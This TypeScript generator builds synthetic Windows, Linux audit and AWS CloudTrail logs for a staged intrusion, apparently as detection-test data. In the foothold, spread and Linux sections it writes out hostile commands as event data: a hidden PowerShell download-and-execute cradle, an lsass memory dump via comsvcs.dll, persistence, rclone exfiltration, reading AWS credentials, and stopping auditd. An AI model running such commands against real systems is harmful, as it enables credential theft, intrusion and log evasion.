/**
 * Makes the recorded-looking intrusion in this folder. Run with `node content/samples/generate.ts`; the same seed makes
 * the same bytes, and a test compares them with what is committed. README.md tells the story.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

const start = Date.UTC(2026, 10, 2, 8, 0, 0);
const minutes = 120;

/** Mulberry32: small, seeded, the same everywhere. */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

type Data = Readonly<Record<string, string>>;
interface Line {
  readonly at: number;
  readonly text: string;
}
interface Process {
  readonly guid: string;
  readonly pid: number;
  readonly image: string;
  readonly commandLine: string;
  readonly user: string;
}

const s32 = 'C:\\Windows\\System32\\';
const powershell = `${s32}WindowsPowerShell\\v1.0\\powershell.exe`;
const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\';
const system = 'NT AUTHORITY\\SYSTEM';
const domainSid = 'S-1-5-21-1004336348-1177238915-682003330';
const sids: Data = { 'm.okafor': '1118', 'a.novak': '1121', 'it.berg': '1107', svc_backup: '1155', helpdesk2: '1190' };
const sidOf = (name: string): string => `${domainSid}-${sids[name] ?? '1000'}`;
const nameOf = (user: string): string => user.slice(user.indexOf('\\') + 1);

const wks014 = 'wks-014.harbor.example';
const wks022 = 'wks-022.harbor.example';
const file01 = 'srv-file01.harbor.example';
const dc01 = 'dc01.harbor.example';
const addresses: Data = { [wks014]: '10.20.1.14', [wks022]: '10.20.1.22', [file01]: '10.20.0.11', [dc01]: '10.20.0.5' };
const okafor = 'HARBOR\\m.okafor';
const novak = 'HARBOR\\a.novak';
const berg = 'HARBOR\\it.berg';
const backup = 'HARBOR\\svc_backup';

const attackerSite = '203.0.113.77';
const attackerHome = '198.51.100.143';
const at = (clock: string): number => Date.parse(`2026-11-02T${clock}Z`);

/** A writer with its own dice, so that noise of one kind does not shift another. */
function makeTools(seed: number) {
  const random = seeded(seed);
  const below = (most: number): number => Math.floor(random() * most);
  const hex = (digits: number): string => Array.from({ length: digits }, () => below(16).toString(16)).join('');
  return { random, below, hex, pick: <T>(list: readonly T[]): T => list[below(list.length)] as T };
}

// -- Windows, as Winlogbeat 8 ships it

const channels = {
  sysmon: { channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon', guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' },
  security: { channel: 'Security', provider: 'Microsoft-Windows-Security-Auditing', guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}' },
  cleared: { channel: 'Security', provider: 'Microsoft-Windows-Eventlog', guid: '{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}' },
  powershell: { channel: 'Microsoft-Windows-PowerShell/Operational', provider: 'Microsoft-Windows-PowerShell', guid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' },
  system: { channel: 'System', provider: 'Service Control Manager', guid: '{555908D1-A6D7-4695-8E1E-26931D2012F4}' },
} as const;

const titles: Readonly<Record<number, string>> = {
  1: 'Process Create:', 3: 'Network connection detected:', 5: 'Process terminated:', 10: 'Process accessed:', 11: 'File created:',
  13: 'Registry value set:', 22: 'Dns query:', 1102: 'The audit log was cleared.', 4104: 'Creating Scriptblock text (1 of 1):',
  4624: 'An account was successfully logged on.', 4625: 'An account failed to log on.', 4634: 'An account was logged off.',
  4672: 'Special privileges assigned to new logon.', 4688: 'A new process has been created.', 4698: 'A scheduled task was created.',
  4720: 'A user account was created.', 4728: 'A member was added to a security-enabled global group.',
  4769: 'A Kerberos service ticket was requested.', 7036: 'The service entered a new state.', 7045: 'A service was installed in the system.',
};

function makeWindows(seed: number) {
  const { random, below, hex, pick } = makeTools(seed);
  const lines: Line[] = [];
  const records = new Map<string, number>();

  function emit(time: number, host: string, kind: keyof typeof channels, id: number, data: Data, more: object = {}): void {
    const { channel, provider, guid } = channels[kind];
    const key = `${host}/${channel}`;
    const record = (records.get(key) ?? 41_000 + key.length * 977) + 1;
    records.set(key, record);
    const audit = kind === 'security' ? { keywords: [id === 4625 ? 'Audit Failure' : 'Audit Success'] } : {};
    const stamp = new Date(time).toISOString();
    const event = {
      '@timestamp': stamp,
      agent: { name: host.split('.')[0], type: 'winlogbeat', version: '8.15.3' },
      ecs: { version: '8.0.0' },
      event: { code: String(id), kind: 'event', provider },
      host: { name: host },
      log: { level: 'information' },
      message: titles[id] ?? '',
      winlog: {
        channel, computer_name: host, event_data: data, event_id: String(id), opcode: 'Info',
        process: { pid: kind === 'sysmon' ? 3308 : 708, thread: { id: 1200 + below(6000) } },
        provider_guid: guid, provider_name: provider, record_id: record, ...audit, ...more,
      },
    };
    lines.push({ at: time, text: JSON.stringify(event) });
  }

  const utc = (time: number): string => new Date(time).toISOString().replace('T', ' ').replace('Z', '');
  const guid = (): string => `{5f3b1c2d-${hex(4)}-6907-${hex(4)}-00000000${hex(4)}}`;
  const sysmon = (time: number, host: string, id: number, data: Data): void =>
    emit(time, host, 'sysmon', id, { RuleName: '-', UtcTime: utc(time - 4), ...data });

  function subject(user: string, logonId = '0x9ab10'): Data {
    return { SubjectUserSid: sidOf(nameOf(user)), SubjectUserName: nameOf(user), SubjectDomainName: 'HARBOR', SubjectLogonId: logonId };
  }

  function existing(image: string, user: string, commandLine = `"${image}"`): Process {
    return { guid: guid(), pid: 600 + 4 * below(3000), image, commandLine, user };
  }

  /** A process starts: Sysmon 1, and on servers Security 4688 too. */
  function run(time: number, host: string, parent: Process, image: string, commandLine: string, more: Data = {}): Process {
    const user = more['User'] ?? parent.user;
    const made = { guid: guid(), pid: 2000 + 4 * below(3000), image, commandLine, user };
    const name = image.slice(image.lastIndexOf('\\') + 1);
    sysmon(time, host, 1, {
      ProcessGuid: made.guid, ProcessId: String(made.pid), Image: image, Company: 'Microsoft Corporation', OriginalFileName: name,
      CommandLine: commandLine, CurrentDirectory: user === system ? s32 : `C:\\Users\\${nameOf(user)}\\`, User: user,
      LogonId: user === system ? '0x3e7' : '0xf3c9a', IntegrityLevel: user === system ? 'System' : 'Medium',
      Hashes: `SHA256=${hex(64).toUpperCase()},IMPHASH=${hex(32).toUpperCase()}`,
      ParentProcessGuid: parent.guid, ParentProcessId: String(parent.pid), ParentImage: parent.image,
      ParentCommandLine: parent.commandLine, ...more,
    });
    if (host === file01 || host === dc01)
      emit(time + 3, host, 'security', 4688, {
        ...(user === system ? { SubjectUserSid: 'S-1-5-18', SubjectUserName: `${host.split('.')[0]?.toUpperCase()}$`, SubjectDomainName: 'HARBOR', SubjectLogonId: '0x3e7' } : subject(user)),
        NewProcessId: `0x${made.pid.toString(16)}`, NewProcessName: image, TokenElevationType: '%%1936', ProcessId: `0x${parent.pid.toString(16)}`,
        CommandLine: commandLine, TargetUserSid: 'S-1-0-0', TargetUserName: '-', TargetDomainName: '-', TargetLogonId: '0x0',
        ParentProcessName: parent.image, MandatoryLabel: user === system ? 'S-1-16-16384' : 'S-1-16-8192',
      });
    return made;
  }

  const of = (process: Process): Data => ({ ProcessGuid: process.guid, ProcessId: String(process.pid), Image: process.image, User: process.user });
  const connect = (time: number, host: string, process: Process, ip: string, port: number, name = '-'): void =>
    sysmon(time, host, 3, {
      ...of(process), Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: addresses[host] ?? '-', SourceHostname: host,
      SourcePort: String(49_152 + below(15_000)), DestinationIsIpv6: 'false', DestinationIp: ip, DestinationHostname: name, DestinationPort: String(port),
    });
  const resolve = (time: number, host: string, process: Process, name: string, ip: string): void =>
    sysmon(time, host, 22, { ...of(process), QueryName: name, QueryStatus: '0', QueryResults: `::ffff:${ip};` });
  const createFile = (time: number, host: string, process: Process, path: string): void =>
    sysmon(time, host, 11, { ...of(process), TargetFilename: path, CreationUtcTime: utc(time - 4) });
  const setValue = (time: number, host: string, process: Process, key: string, details: string): void =>
    sysmon(time, host, 13, { EventType: 'SetValue', ...of(process), TargetObject: key, Details: details });
  const access = (time: number, host: string, source: Process, target: string, rights: string, trace: string): void =>
    sysmon(time, host, 10, {
      SourceProcessGUID: source.guid, SourceProcessId: String(source.pid), SourceThreadId: String(900 + below(9000)), SourceImage: source.image,
      TargetProcessGUID: '{5f3b1c2d-08f1-6907-0c00-00000000a100}', TargetProcessId: '712', TargetImage: target, GrantedAccess: rights,
      CallTrace: `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|${trace}`, SourceUser: source.user, TargetUser: system,
    });
  const script = (time: number, host: string, user: string, text: string, path = ''): void =>
    emit(time, host, 'powershell', 4104, { MessageNumber: '1', MessageTotal: '1', ScriptBlockText: text, ScriptBlockId: `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`, Path: path }, {
      user: user === system ? { domain: 'NT AUTHORITY', identifier: 'S-1-5-18', name: 'SYSTEM', type: 'User' } : { domain: 'HARBOR', identifier: sidOf(nameOf(user)), name: nameOf(user), type: 'User' },
    });
  const logon = (time: number, host: string, user: string, from: string, type = '3'): void =>
    emit(time, host, 'security', 4624, {
      SubjectUserSid: 'S-1-0-0', SubjectUserName: '-', SubjectDomainName: '-', SubjectLogonId: '0x0', TargetUserSid: sidOf(nameOf(user)), TargetUserName: nameOf(user),
      TargetDomainName: 'HARBOR', TargetLogonId: `0x${hex(6)}`, LogonType: type, LogonProcessName: 'Kerberos', AuthenticationPackageName: 'Kerberos',
      WorkstationName: '-', ProcessId: '0x0', ProcessName: '-', IpAddress: from, IpPort: String(49_152 + below(15_000)), ElevatedToken: '%%1843',
    });
  return { lines, emit, random, below, pick, hex, existing, run, connect, resolve, createFile, setValue, access, script, logon, subject, of, sysmon };
}

type Windows = ReturnType<typeof makeWindows>;

const sites: readonly (readonly [string, string])[] = [
  ['outlook.office365.com', '52.97.0.10'], ['teams.microsoft.com', '52.113.0.20'], ['intranet.harbor.example', '10.20.0.30'], ['www.bbc.example', '192.0.2.81'],
  ['update.vendor.example', '192.0.2.15'], ['cdn.news.example', '192.0.2.44'], ['time.harbor.example', '10.20.0.5'], ['erp.harbor.example', '10.20.0.40'],
];
const starts: readonly (readonly [string, string])[] = [
  [`${s32}SearchProtocolHost.exe`, '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe7_'],
  [`${s32}backgroundTaskHost.exe`, '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppX'],
  [`${s32}conhost.exe`, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
  [`${office}EXCEL.EXE`, `"${office}EXCEL.EXE" "D:\\Plans\\budget.xlsx"`],
  [`${office}WINWORD.EXE`, `"${office}WINWORD.EXE" /n`],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer'],
  [`${s32}notepad.exe`, `"${s32}notepad.exe" notes.txt`],
  [`${s32}gpupdate.exe`, 'gpupdate.exe /target:user'],
];
const services = ['Windows Update', 'Background Intelligent Transfer Service', 'WMI Performance Adapter', 'Software Protection', 'Windows Modules Installer'];

/** Everyday life of one host: a handful of events a minute. */
function everyday(win: Windows, host: string, user: string): void {
  const server = host === file01 || host === dc01;
  const explorer = win.existing(server ? `${s32}services.exe` : 'C:\\Windows\\explorer.exe', server ? system : user);
  const browser = win.existing('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', user);
  const svchost = win.existing(`${s32}svchost.exe`, system, `${s32}svchost.exe -k netsvcs -p`);
  const client = server ? svchost : browser;
  const people = [okafor, novak, berg, backup];
  const kinds: ((time: number) => void)[] = [
    (time) => { const [name, ip] = win.pick(sites); win.resolve(time, host, client, name, ip); win.connect(time + 40, host, client, ip, 443, name); },
    (time) => { const [name, ip] = win.pick(sites); win.connect(time, host, svchost, ip, 443, name); },
    (time) => { const [image, command] = win.pick(server ? starts.slice(0, 3) : starts); const made = win.run(time, host, explorer, image, command); win.sysmon(time + 2000 + win.below(9000), host, 5, win.of(made)); },
    (time) => win.createFile(time, host, client, server ? `C:\\Windows\\Temp\\wct${win.hex(4)}.tmp` : `C:\\Users\\${nameOf(user)}\\AppData\\Local\\Temp\\${win.hex(8)}.tmp`),
    (time) => win.setValue(time, host, svchost, `HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\${sidOf(nameOf(user))}\\${win.hex(6)}`, 'Binary Data'),
    (time) => win.access(time, host, svchost, `${s32}lsass.exe`, '0x1000', `C:\\Windows\\System32\\KERNELBASE.dll+${win.hex(5)}`),
    (time) => win.emit(time, host, 'system', 7036, { param1: win.pick(services), param2: win.pick(['running', 'stopped']) }),
  ];
  if (server) kinds.push((time) => { const who = win.pick(people); win.logon(time, host, who, win.pick(['10.20.1.14', '10.20.1.22', '10.20.1.31'])); }, (time) => win.emit(time, host, 'security', 4634, { TargetUserSid: sidOf('a.novak'), TargetUserName: 'a.novak', TargetDomainName: 'HARBOR', TargetLogonId: `0x${win.hex(6)}`, LogonType: '3' }));
  for (let minute = 0; minute < minutes; minute += 1)
    for (let count = server ? 2 : 3; count > 0; count -= 1) win.pick(kinds)(start + minute * 60_000 + win.below(60_000));
}

/** Harmless things that look a little like the attack, two of which a rule does report. */
function nearMisses(win: Windows): void {
  const explorer = win.existing('C:\\Windows\\explorer.exe', novak);
  win.script(at('08:09:12.210'), wks022, system, 'Get-WmiObject Win32_Product | Select-Object Name,Version | Export-Csv C:\\ProgramData\\inventory.csv', 'C:\\Program Files\\Inventory\\collect.ps1');
  win.run(at('08:17:40.000'), wks022, win.existing(`${office}EXCEL.EXE`, novak), `${s32}rundll32.exe`, 'rundll32.exe printui.dll,PrintUIEntry /in /n \\\\srv-print\\floor2');
  win.setValue(at('08:19:05.500'), wks022, win.existing('C:\\Users\\a.novak\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe', novak), `HKU\\${sidOf('a.novak')}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive`, '"C:\\Users\\a.novak\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background');
  win.emit(at('08:30:11.000'), dc01, 'security', 4625, { SubjectUserSid: 'S-1-0-0', SubjectUserName: '-', SubjectDomainName: '-', SubjectLogonId: '0x0', TargetUserSid: 'S-1-0-0', TargetUserName: 'a.novak', TargetDomainName: 'HARBOR', Status: '0xc000006d', SubStatus: '0xc000006a', FailureReason: '%%2313', LogonType: '3', IpAddress: '10.20.1.22', IpPort: '50110', ProcessName: '-' });
  win.emit(at('08:52:00.000'), file01, 'system', 7045, { ServiceName: 'HealthProbe', ImagePath: '"C:\\Program Files\\HealthProbe\\probe.exe"', ServiceType: 'user mode service', StartType: 'auto start', AccountName: 'LocalSystem' });
  // Reported and harmless: an administrator at work, and a chat client that installs itself for one user.
  const shell = win.run(at('09:05:20.000'), dc01, win.existing('C:\\Windows\\explorer.exe', berg), `${s32}cmd.exe`, '"C:\\Windows\\System32\\cmd.exe"');
  win.run(at('09:05:31.000'), dc01, shell, `${s32}net.exe`, 'net  group "Domain Admins" /domain');
  const setup = win.run(at('09:17:02.000'), wks022, explorer, 'C:\\Users\\a.novak\\Downloads\\ParleySetup.exe', '"C:\\Users\\a.novak\\Downloads\\ParleySetup.exe"', { Company: 'Parley Ltd' });
  win.setValue(at('09:17:09.000'), wks022, setup, `HKU\\${sidOf('a.novak')}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Parley`, 'C:\\Users\\a.novak\\AppData\\Local\\Parley\\Parley.exe --hidden');
}

/** 08:20 to 08:48, on the workstation. */
function foothold(win: Windows): void {
  const outlook = win.existing(`${office}OUTLOOK.EXE`, okafor);
  win.createFile(at('08:20:41.120'), wks014, outlook, 'C:\\Users\\m.okafor\\Downloads\\Freight invoice 4471.docm');
  const word = win.run(at('08:20:58.300'), wks014, win.existing('C:\\Windows\\explorer.exe', okafor), `${office}WINWORD.EXE`, `"${office}WINWORD.EXE" /n "C:\\Users\\m.okafor\\Downloads\\Freight invoice 4471.docm"`);
  const fetch = `IEX (New-Object Net.WebClient).DownloadString('http://${attackerSite}/load')`;
  const encoded = Buffer.from(fetch, 'utf16le').toString('base64');
  const shell = win.run(at('08:21:13.870'), wks014, word, powershell, `powershell.exe -nop -w hidden -enc ${encoded}`);
  win.script(at('08:21:15.020'), wks014, okafor, fetch);
  win.connect(at('08:21:15.400'), wks014, shell, attackerSite, 80);
  win.createFile(at('08:25:50.000'), wks014, shell, 'C:\\Users\\m.okafor\\AppData\\Roaming\\SyncHelper\\helper.dll');
  win.setValue(at('08:26:02.640'), wks014, shell, `HKU\\${sidOf('m.okafor')}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SyncHelper`, 'rundll32.exe C:\\Users\\m.okafor\\AppData\\Roaming\\SyncHelper\\helper.dll,Start');
  for (let beacon = at('08:27:00.000'); beacon < at('09:58:00.000'); beacon += 300_000) win.connect(beacon + win.below(30_000), wks014, shell, attackerSite, 443);
  const cmd = win.run(at('08:33:10.100'), wks014, shell, `${s32}cmd.exe`, 'cmd.exe');
  win.run(at('08:33:21.000'), wks014, cmd, `${s32}whoami.exe`, 'whoami /all');
  win.run(at('08:33:44.000'), wks014, cmd, `${s32}net.exe`, 'net  group "Domain Admins" /domain');
  win.run(at('08:34:05.000'), wks014, cmd, `${s32}nltest.exe`, 'nltest /dclist:harbor.example');
  win.run(at('08:35:30.000'), wks014, cmd, `${s32}net.exe`, 'net view \\\\srv-file01 /all');
  const dump = win.run(at('08:47:02.200'), wks014, shell, `${s32}rundll32.exe`, 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\d.bin full', { IntegrityLevel: 'High', OriginalFileName: 'RUNDLL32.EXE' });
  win.access(at('08:47:02.900'), wks014, dump, `${s32}lsass.exe`, '0x1fffff', 'C:\\Windows\\SYSTEM32\\dbgcore.DLL+6b9d|C:\\Windows\\System32\\comsvcs.dll+2c1a');
  win.createFile(at('08:47:03.100'), wks014, dump, 'C:\\Users\\Public\\d.bin');
}

/** 09:01 to 09:52, on the servers, with the stolen account of the back-up service. */
function spread(win: Windows): void {
  win.logon(at('09:01:48.000'), file01, backup, '10.20.1.14');
  win.emit(at('09:01:48.010'), file01, 'security', 4672, { ...win.subject(backup), PrivilegeList: 'SeBackupPrivilege' });
  const services01 = win.existing(`${s32}services.exe`, system, `${s32}services.exe`);
  win.createFile(at('09:02:00.000'), file01, win.existing('System', system, 'System'), 'C:\\Windows\\QwBnTrLx.exe');
  win.emit(at('09:02:01.500'), file01, 'system', 7045, { ServiceName: 'QwBnTrLx', ImagePath: '%SystemRoot%\\QwBnTrLx.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' });
  const dropped = win.run(at('09:02:02.000'), file01, services01, 'C:\\Windows\\QwBnTrLx.exe', 'C:\\Windows\\QwBnTrLx.exe', { Company: '-' });
  const cmd = win.run(at('09:02:06.000'), file01, dropped, `${s32}cmd.exe`, 'cmd.exe', { User: backup });
  win.run(at('09:04:10.000'), file01, cmd, `${s32}net.exe`, 'net share');
  win.run(at('09:08:13.500'), file01, cmd, `${s32}schtasks.exe`, 'schtasks /create /tn \\Microsoft\\Windows\\UpdateCheck /sc onlogon /ru SYSTEM /tr C:\\ProgramData\\svhost.cmd');
  win.emit(at('09:08:14.000'), file01, 'security', 4698, {
    ...win.subject(backup), TaskName: '\\Microsoft\\Windows\\UpdateCheck',
    TaskContent: '<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.2"><Triggers><LogonTrigger/></Triggers><Actions Context="Author"><Exec><Command>C:\\ProgramData\\svhost.cmd</Command></Exec></Actions></Task>',
  });
  win.logon(at('09:13:50.000'), dc01, backup, '10.20.0.11');
  win.emit(at('09:14:02.000'), dc01, 'security', 4720, { ...win.subject(backup), TargetUserName: 'helpdesk2', TargetDomainName: 'HARBOR', TargetSid: sidOf('helpdesk2'), SamAccountName: 'helpdesk2', DisplayName: 'Help desk 2' });
  win.emit(at('09:14:20.000'), dc01, 'security', 4728, { ...win.subject(backup), MemberName: 'CN=helpdesk2,CN=Users,DC=harbor,DC=example', MemberSid: sidOf('helpdesk2'), TargetUserName: 'Domain Admins', TargetDomainName: 'HARBOR', TargetSid: `${domainSid}-512`, PrivilegeList: '-' });
  win.createFile(at('09:20:30.000'), file01, cmd, 'C:\\ProgramData\\svhost.exe');
  const copy = win.run(at('09:21:08.000'), file01, cmd, 'C:\\ProgramData\\svhost.exe', 'svhost.exe copy D:\\Finance store:fin --config C:\\ProgramData\\c.conf --transfers 12', { OriginalFileName: 'rclone.exe', Company: 'https://rclone.org', Description: 'Rsync for cloud storage' });
  for (let count = 0; count < 12; count += 1) win.connect(at('09:21:12.000') + count * 45_000, file01, copy, '192.0.2.200', 443, 'store.example');
  win.emit(at('09:51:33.000'), file01, 'cleared', 1102, {}, { user_data: { ...win.subject(backup), xml_name: 'LogFileCleared' } });
}

// -- Linux, audit records in the `message` of a shipper

function makeLinux(seed: number): readonly Line[] {
  const { below, pick, hex } = makeTools(seed);
  const lines: Line[] = [];
  let serial = 88_100;
  const put = (time: number, type: string, rest: string): void => {
    const message = `type=${type} msg=audit(${(time / 1000).toFixed(3)}:${serial}): ${rest}`;
    lines.push({ at: time, text: JSON.stringify({ '@timestamp': new Date(time + 300).toISOString(), host: { name: 'web01.harbor.example' }, log: { file: { path: '/var/log/audit/audit.log' } }, message }) });
  };
  /** An argument as auditd writes it: quoted, or hexadecimal when it has a blank. */
  const word = (text: string): string => (/[\s"]/.test(text) ? Buffer.from(text).toString('hex').toUpperCase() : `"${text}"`);
  function exec(time: number, user: 'deploy' | 'root', exe: string, ...words: readonly string[]): void {
    serial += 1;
    const [pid, id] = [2000 + below(28_000), user === 'root' ? '0' : '1000'];
    put(time, 'SYSCALL', `arch=c000003e syscall=59 success=yes exit=0 a0=${hex(12)} a1=${hex(12)} a2=${hex(12)} a3=8 items=2 ppid=${pid - 1 - below(40)} pid=${pid} auid=${id === '0' ? '4294967295' : '1000'} uid=${id} gid=${id} euid=${id} tty=pts0 ses=7 comm="${exe.slice(exe.lastIndexOf('/') + 1)}" exe="${exe}" key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="${id === '0' ? 'unset' : 'deploy'}" UID="${user}"`);
    put(time, 'EXECVE', `argc=${words.length} ${words.map((text, index) => `a${index}=${word(text)}`).join(' ')}`);
  }
  const session = (time: number, from: string): void => {
    serial += 1;
    put(time, 'USER_LOGIN', `pid=${2000 + below(9000)} uid=0 auid=1000 ses=7 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=${from} addr=${from} terminal=ssh res=success'`);
  };
  const everydayCommands: readonly (readonly [string, ...string[]])[] = [
    ['/usr/bin/curl', 'curl', '-s', 'http://127.0.0.1:8080/healthz'], ['/usr/sbin/nginx', '/usr/sbin/nginx', '-t'], ['/usr/bin/systemctl', 'systemctl', 'status', 'web'],
    ['/usr/bin/df', 'df', '-h'], ['/usr/sbin/logrotate', '/usr/sbin/logrotate', '/etc/logrotate.conf'], ['/usr/bin/find', 'find', '/var/cache/web', '-mmin', '+60'],
  ];
  const stopped = at('09:33:30.000');
  for (let time = start + 7000; time < stopped; time += 50_000 + below(30_000)) {
    const [exe, ...words] = pick(everydayCommands);
    exec(time, 'root', exe, ...words);
  }
  session(at('08:40:02.000'), '10.20.1.31');
  exec(at('08:40:30.000'), 'deploy', '/usr/bin/git', 'git', 'pull', '--ff-only');
  session(at('09:27:41.000'), '10.20.0.11');
  exec(at('09:28:05.000'), 'deploy', '/usr/bin/cat', 'cat', '/home/deploy/.aws/credentials');
  exec(at('09:29:00.000'), 'deploy', '/usr/bin/curl', 'curl', '-fsSL', '-o', '/dev/shm/.k/agent', `http://${attackerSite}/l`);
  exec(at('09:29:14.000'), 'deploy', '/dev/shm/.k/agent', '/dev/shm/.k/agent', '-c', attackerSite);
  exec(at('09:33:28.000'), 'deploy', '/usr/bin/sudo', 'sudo', 'systemctl', 'stop', 'auditd');
  exec(at('09:33:29.000'), 'root', '/usr/bin/systemctl', 'systemctl', 'stop', 'auditd');
  serial += 1;
  put(at('09:33:29.400'), 'SERVICE_STOP', `pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=auditd comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`);
  return lines;
}

// -- CloudTrail

function makeCloud(seed: number): readonly Line[] {
  const { below, pick, hex } = makeTools(seed);
  const lines: Line[] = [];
  const account = '111122223333';
  function call(time: number, user: string, service: string, name: string, from: string, request: object | null, more: object = {}): void {
    const isRole = user === 'ci-build';
    const identity = isRole
      ? { type: 'AssumedRole', principalId: `AROAEXAMPLE0000000002:${user}`, arn: `arn:aws:sts::${account}:assumed-role/ci-build/${user}`, accountId: account, sessionContext: { sessionIssuer: { type: 'Role', arn: `arn:aws:iam::${account}:role/ci-build`, accountId: account, userName: 'ci-build' } } }
      : { type: 'IAMUser', principalId: `AIDAEXAMPLE${user.length}000000001`, arn: `arn:aws:iam::${account}:user/${user}`, accountId: account, accessKeyId: `AKIAEXAMPLE00000${user.length}`, userName: user };
    const record = {
      eventVersion: '1.10', userIdentity: identity, eventTime: new Date(Math.floor(time / 1000) * 1000).toISOString().replace('.000', ''), eventSource: `${service}.amazonaws.com`, eventName: name, awsRegion: 'eu-north-1',
      sourceIPAddress: from, userAgent: isRole ? 'Boto3/1.35.0' : 'aws-cli/2.17.9', requestParameters: request, responseElements: null, requestID: `${hex(8)}-${hex(4)}-4${hex(3)}-8${hex(3)}-${hex(12)}`,
      eventID: `${hex(8)}-${hex(4)}-4${hex(3)}-8${hex(3)}-${hex(12)}`, readOnly: /^(Get|List|Describe)/.test(name), eventType: 'AwsApiCall', managementEvent: true, recipientAccountId: account, eventCategory: 'Management', ...more,
    };
    lines.push({ at: time, text: JSON.stringify(record) });
  }
  const reads: readonly (readonly [string, string, object | null])[] = [
    ['ec2', 'DescribeInstances', { maxResults: 100 }], ['s3', 'GetBucketLocation', { bucketName: 'harbor-web-assets' }], ['sts', 'GetCallerIdentity', null],
    ['ecs', 'DescribeServices', { cluster: 'web', services: ['front'] }], ['cloudwatch', 'DescribeAlarms', null], ['iam', 'GetUser', { userName: 'r.lindqvist' }],
  ];
  for (let time = start + 11_000; time < start + minutes * 60_000; time += 20_000 + below(25_000)) {
    const user = pick(['ci-build', 'ci-build', 'deploy-web', 'r.lindqvist']);
    const [service, name, request] = pick(reads);
    call(time, user, service, name, user === 'r.lindqvist' ? '198.51.100.20' : '198.51.100.7', request);
  }
  call(at('08:55:10.000'), 'r.lindqvist', 'iam', 'CreateAccessKey', '198.51.100.20', { userName: 'r.lindqvist' }, { responseElements: { accessKey: { userName: 'r.lindqvist', accessKeyId: 'AKIAEXAMPLE000000101', status: 'Active' } } });
  call(at('09:36:12.000'), 'deploy-web', 'sts', 'GetCallerIdentity', attackerHome, null);
  call(at('09:36:40.000'), 'deploy-web', 'iam', 'ListUsers', attackerHome, null);
  call(at('09:37:05.000'), 'deploy-web', 's3', 'ListBuckets', attackerHome, null);
  call(at('09:38:22.000'), 'deploy-web', 'iam', 'CreateAccessKey', attackerHome, { userName: 'svc-report' }, { responseElements: { accessKey: { userName: 'svc-report', accessKeyId: 'AKIAEXAMPLE000000102', status: 'Active' } } });
  call(at('09:44:09.000'), 'deploy-web', 'cloudtrail', 'StopLogging', attackerHome, { name: `arn:aws:cloudtrail:eu-north-1:${account}:trail/main` }, { errorCode: 'AccessDenied', errorMessage: 'User is not authorized to perform: cloudtrail:StopLogging' });
  return lines;
}

const textOf = (lines: readonly Line[]): string =>
  `${[...lines].sort((a, b) => a.at - b.at).map((line) => line.text).join('\n')}\n`;

/** The files by name. */
export function generate(): Record<string, string> {
  const win = makeWindows(20261102);
  everyday(win, wks014, okafor);
  everyday(win, wks022, novak);
  everyday(win, file01, backup);
  everyday(win, dc01, berg);
  nearMisses(win);
  foothold(win);
  spread(win);
  return { 'windows.jsonl': textOf(win.lines), 'linux-auditd.jsonl': textOf(makeLinux(4471)), 'aws-cloudtrail.jsonl': textOf(makeCloud(77)) };
}

if (import.meta.main) for (const [name, text] of Object.entries(generate())) writeFileSync(join(import.meta.dirname, name), text);
